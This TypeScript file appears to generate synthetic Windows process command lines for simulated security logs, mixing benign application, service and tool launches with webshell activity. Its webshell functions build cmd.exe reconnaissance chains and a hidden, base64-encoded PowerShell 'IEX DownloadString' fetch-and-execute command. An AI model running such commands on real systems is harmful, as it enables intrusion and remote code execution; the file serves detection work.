/**
 * Command lines for each kind of launch. Most carry random parts (file names, hosts, ids), so
 * that, as in real logs, most command lines are distinct while process names repeat.
 */
import { IMAGES, type ImageName } from './catalog.js';
import type { Random } from './random.js';

const DOCUMENT_WORDS = [
  'budget', 'invoice', 'report', 'minutes', 'roadmap', 'forecast', 'contract', 'proposal', 'summary',
  'timesheet', 'inventory', 'payroll', 'onboarding', 'review', 'plan', 'notes', 'draft', 'q1', 'q2', 'q3', 'q4',
];
const INTERNAL_HOSTS = ['fs01', 'fs02', 'dc01', 'dc02', 'sql01', 'print01', 'wsus', 'intranet', 'git', 'jira', 'mail'];
const SERVICES = [
  ['netsvcs', 'gpsvc'], ['netsvcs', 'BITS'], ['netsvcs', 'wuauserv'], ['LocalServiceNetworkRestricted', 'Dhcp'],
  ['NetworkService', 'Dnscache'], ['LocalSystemNetworkRestricted', 'TrkWks'], ['utcsvc', 'DiagTrack'],
  ['LocalService', 'W32Time'], ['wsappx', 'AppXSvc'], ['netsvcs', 'Winmgmt'], ['LocalServiceNoNetwork', 'DPS'],
  ['UnistackSvcGroup', 'CDPUserSvc'], ['netsvcs', 'lfsvc'], ['LocalService', 'EventSystem'],
] as const;

function documentName(random: Random): string {
  return `${random.pick(DOCUMENT_WORDS)}_${random.pick(DOCUMENT_WORDS)}_${random.between(2019, 2024)}${random.between(1, 12).toString().padStart(2, '0')}${random.chance(0.4) ? `_v${random.between(1, 9)}` : ''}`;
}

function internalIp(random: Random): string {
  return `10.${random.between(0, 40)}.${random.between(0, 255)}.${random.between(1, 254)}`;
}

function upperGuid(random: Random): string {
  return `${random.hex(8)}-${random.hex(4)}-${random.hex(4)}-${random.hex(4)}-${random.hex(12)}`.toUpperCase();
}

export function userApplication(random: Random, name: 'chrome' | 'msedge' | 'winword' | 'excel' | 'outlook' | 'notepad', user: string): string {
  const path = IMAGES[name].path;
  switch (name) {
    case 'chrome':
    case 'msedge':
      return random.chance(0.2)
        ? `"${path}" `
        : `"${path}" --single-argument https://${random.pick(INTERNAL_HOSTS)}.corp.example/${random.token(random.between(4, 12))}?id=${random.between(1, 999999)}`;
    case 'winword':
      return `"${path}" /n "C:\\Users\\${user}\\Documents\\${documentName(random)}.docx" /o ""`;
    case 'excel':
      return `"${path}" "C:\\Users\\${user}\\Downloads\\${documentName(random)}.xlsx"`;
    case 'outlook':
      return random.chance(0.3)
        ? `"${path}" `
        : `"${path}" /select outlook:${random.pick(['Inbox', 'Calendar', 'Sent Items', 'Drafts'])}/${random.token(random.between(6, 14))}`;
    case 'notepad':
      return `"C:\\Windows\\system32\\NOTEPAD.EXE" C:\\Users\\${user}\\Desktop\\${documentName(random)}.txt`;
  }
}

export function browserChild(random: Random, browserPath: string): string {
  const type = random.weighted(['renderer', 'gpu-process', 'utility', 'crashpad-handler'], [70, 10, 15, 5]);
  const handle = `${random.between(1000, 9999)},i,${random.between(1e15, 9e15)},${random.between(1e15, 9e15)},262144`;
  if (type === 'renderer') {
    return `"${browserPath}" --type=renderer --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id=${random.between(5, 400)} --time-ticks-at-unix-epoch=-${random.between(1e15, 2e15)} --launch-time-ticks=${random.between(1e9, 9e11)} --mojo-platform-channel-handle=${random.between(1000, 9999)} --field-trial-handle=${handle} /prefetch:1`;
  }
  if (type === 'utility') {
    const service = random.pick(['network.mojom.NetworkService', 'storage.mojom.StorageService', 'audio.mojom.AudioService']);
    return `"${browserPath}" --type=utility --utility-sub-type=${service} --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=${random.between(1000, 9999)} --field-trial-handle=${handle} /prefetch:8`;
  }
  if (type === 'gpu-process') {
    return `"${browserPath}" --type=gpu-process --gpu-preferences=${random.hex(24)} --mojo-platform-channel-handle=${random.between(1000, 9999)} --field-trial-handle=${handle} /prefetch:2`;
  }
  return `"${browserPath}" --type=crashpad-handler --monitor-self-annotation=ptype=crashpad-handler --database=C:\\ProgramData\\crashpad --annotation=ver=${IMAGES.chrome.fileVersion} --initial-client-data=0x${random.hex(3)},0x${random.hex(3)},0x${random.hex(3)}`;
}

export function serviceHost(random: Random): string {
  const [group, service] = random.pick(SERVICES);
  return `C:\\Windows\\system32\\svchost.exe -k ${group} -p -s ${service}`;
}

export function scheduledTask(random: Random): [ImageName, string] {
  const roll = random.int(5);
  if (roll === 0) return ['taskhostw', `taskhostw.exe ${random.pick(['/RuntimeWide', 'Install $(Arg0)', 'SYSTEM', `-${random.hex(6)}`])}`];
  if (roll === 1) return ['mpCmdRun', `"${IMAGES.mpCmdRun.path}" -${random.pick(['IdleTask -TaskName WdCacheMaintenance', 'IdleTask -TaskName WdCleanup', 'SignatureUpdate -ScheduleJob -RestrictPrivileges', 'wdenable'])}`];
  if (roll === 2) return ['edgeUpdate', `"${IMAGES.edgeUpdate.path}" /ua /installsource ${random.pick(['scheduler', 'core'])}`];
  if (roll === 3) return ['gpupdate', `gpupdate.exe /target:${random.pick(['computer', 'user'])} /force`];
  return ['rundll32', `C:\\Windows\\system32\\rundll32.exe ${random.pick(['Windows.Storage.ApplicationData.dll,CleanupTemporaryState', 'shell32.dll,Options_RunDLL 0', 'AppXDeploymentExtensions.OneCore.dll,ShellRefresh'])}`];
}

export function comServer(random: Random): [ImageName, string] {
  const roll = random.int(5);
  if (roll === 0) return ['wmiprvse', 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding'];
  if (roll === 1) return ['dllhost', `C:\\Windows\\system32\\DllHost.exe /Processid:{${upperGuid(random)}}`];
  if (roll === 2) return ['runtimeBroker', 'C:\\Windows\\System32\\RuntimeBroker.exe -Embedding'];
  if (roll === 3) return ['backgroundTaskHost', `"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:${random.pick(['App.AppXnme9zjyebb2xnyygh6q9ev6p5d234br2.mca', 'BackgroundTaskHost.WebAccountProvider', 'CortanaUI.AppXy7vb4pc2dr3kc93kfc509b1d0arkfb2x.mca'])}`];
  return ['searchProtocolHost', `"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe${random.between(1, 999)}_ Global\\UsGthrCtrlFltPipeMssGthrPipe${random.between(1, 999)} 1 -2147483646 "Software\\Microsoft\\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon"`];
}

export function interactiveShell(random: Random, name: 'cmd' | 'powershell' | 'pwsh', user: string): string {
  const path = IMAGES[name].path;
  if (name === 'cmd') return `"${path}" /c "C:\\Users\\${user}\\scripts\\${random.pick(['map_drives', 'backup', 'sync', 'cleanup', 'build'])}_${random.token(4)}.bat"`;
  return `"${path}" -NoProfile -ExecutionPolicy Bypass -File C:\\Users\\${user}\\scripts\\${random.pick(['Get-Inventory', 'Update-Modules', 'Export-Report', 'Sync-Files'])}-${random.token(4)}.ps1`;
}

/** Everyday commands typed into shells; also what a webshell operator runs. */
export function reconCommand(random: Random): string {
  const roll = random.int(8);
  if (roll === 0) return 'whoami';
  if (roll === 1) return `ipconfig /${random.pick(['all', 'displaydns'])}`;
  if (roll === 2) return `net ${random.pick(['user', 'localgroup administrators', 'group "domain admins" /domain', 'share'])}`;
  if (roll === 3) return `ping -n ${random.between(1, 4)} ${internalIp(random)}`;
  if (roll === 4) return `dir C:\\inetpub\\wwwroot\\${random.token(5)}`;
  if (roll === 5) return `tasklist /svc /fi "pid eq ${random.between(25, 9000) * 4}"`;
  if (roll === 6) return `nslookup ${random.pick(INTERNAL_HOSTS)}.corp.example`;
  return `systeminfo /fo csv`;
}

export function webshellCmd(random: Random): string {
  const roll = random.int(4);
  if (roll === 0) return `cmd /c ${reconCommand(random)}`;
  if (roll === 1) return `"cmd.exe" /c cd /d "C:\\inetpub\\wwwroot\\aspnet_client\\"&${reconCommand(random)}&echo [S]&cd&echo [E]`;
  if (roll === 2) return `cmd.exe /c echo ${random.hex(16)} > C:\\inetpub\\wwwroot\\${random.token(6)}.txt`;
  return `C:\\Windows\\system32\\cmd.exe /c ${reconCommand(random)} 2>&1`;
}

export function webshellPowershell(random: Random): string {
  if (random.chance(0.5)) {
    const payload = Buffer.from(`IEX (New-Object Net.WebClient).DownloadString('http://${internalIp(random)}:${random.between(1024, 65535)}/${random.token(8)}')`, 'utf16le').toString('base64');
    return `powershell.exe -nop -w hidden -encodedcommand ${payload}`;
  }
  return `powershell -ep bypass -c "Invoke-WebRequest -Uri http://${internalIp(random)}/${random.token(6)}.zip -OutFile C:\\Windows\\Temp\\${random.token(6)}.zip"`;
}

export function tool(random: Random, user: string): [ImageName, string] {
  const roll = random.int(12);
  if (roll === 0) return ['whoami', `whoami ${random.pick(['/all', '/groups', '/priv', ''])}`.trimEnd()];
  if (roll === 1) return ['ipconfig', `ipconfig /${random.pick(['all', 'flushdns', 'renew', 'release'])}`];
  if (roll === 2) return ['net', `net use ${random.pick(['H:', 'S:', 'Z:'])} \\\\${random.pick(INTERNAL_HOSTS)}\\${random.pick(['home', 'shared', 'projects', 'finance'])}$${random.chance(0.5) ? ` /user:${user}` : ''}`];
  if (roll === 3) return ['ping', `ping -n ${random.between(1, 10)} ${internalIp(random)}`];
  if (roll === 4) return ['findstr', `findstr /i /n "${random.pick(['error', 'warning', 'timeout', 'denied'])}" C:\\Users\\${user}\\logs\\${documentName(random)}.log`];
  if (roll === 5) return ['tasklist', `tasklist /fi "imagename eq ${random.pick(['chrome.exe', 'outlook.exe', 'java.exe', 'node.exe'])}"`];
  if (roll === 6) return ['nslookup', `nslookup ${random.pick(INTERNAL_HOSTS)}${random.between(1, 99)}.corp.example`];
  if (roll === 7) return ['netstat', `netstat -an${random.pick(['o', 'b', ''])}`];
  if (roll === 8) return ['git', `"${IMAGES.git.path}" ${random.pick(['pull', 'fetch --all', 'status', `checkout feature/${random.token(8)}`, `log -n ${random.between(1, 50)}`])}`];
  if (roll === 9) return ['python', `"${IMAGES.python.path}" C:\\Users\\${user}\\src\\${random.token(6)}\\${random.pick(['main', 'etl', 'report', 'manage'])}.py ${random.pick(['--verbose', 'runserver', `--date 2024-03-${random.between(10, 28)}`, ''])}`.trimEnd()];
  if (roll === 10) return ['reg', `reg query HKCU\\Software\\${random.pick(['Microsoft\\Office\\16.0', 'Policies', 'Classes\\.txt'])} /s`];
  return ['schtasks', `schtasks /query /fo LIST /tn "\\${random.pick(['Microsoft\\Windows\\Defrag\\ScheduledDefrag', 'OneDrive Standalone Update Task', 'GoogleUpdateTaskMachineUA'])}"`];
}

export function aspNetCompilation(random: Random): [ImageName, string] {
  const folder = `C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\root\\${random.hex(8)}\\${random.hex(8)}`;
  const roll = random.int(3);
  if (roll === 0) return ['csc', `"${IMAGES.csc.path}" /noconfig /fullpaths @"${folder}\\${random.token(8)}.cmdline"`];
  if (roll === 1) return ['cvtres', `${IMAGES.cvtres.path} /NOLOGO /READONLY /MACHINE:IX86 "/OUT:C:\\Windows\\TEMP\\RES${random.hex(4).toUpperCase()}.tmp" "${folder}\\CSC${random.hex(32).toUpperCase()}.TMP"`];
  return ['conhost', '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1'];
}

export function workerCommandLine(random: Random, pool: string): string {
  return `c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "${pool}" -v "v4.0" -l "webengine4.dll" -a \\\\.\\pipe\\iisipm${upperGuid(random).toLowerCase()} -h "C:\\inetpub\\temp\\apppools\\${pool}\\${pool}.config" -w "" -m 0 -t 20 -ta 0`;
}
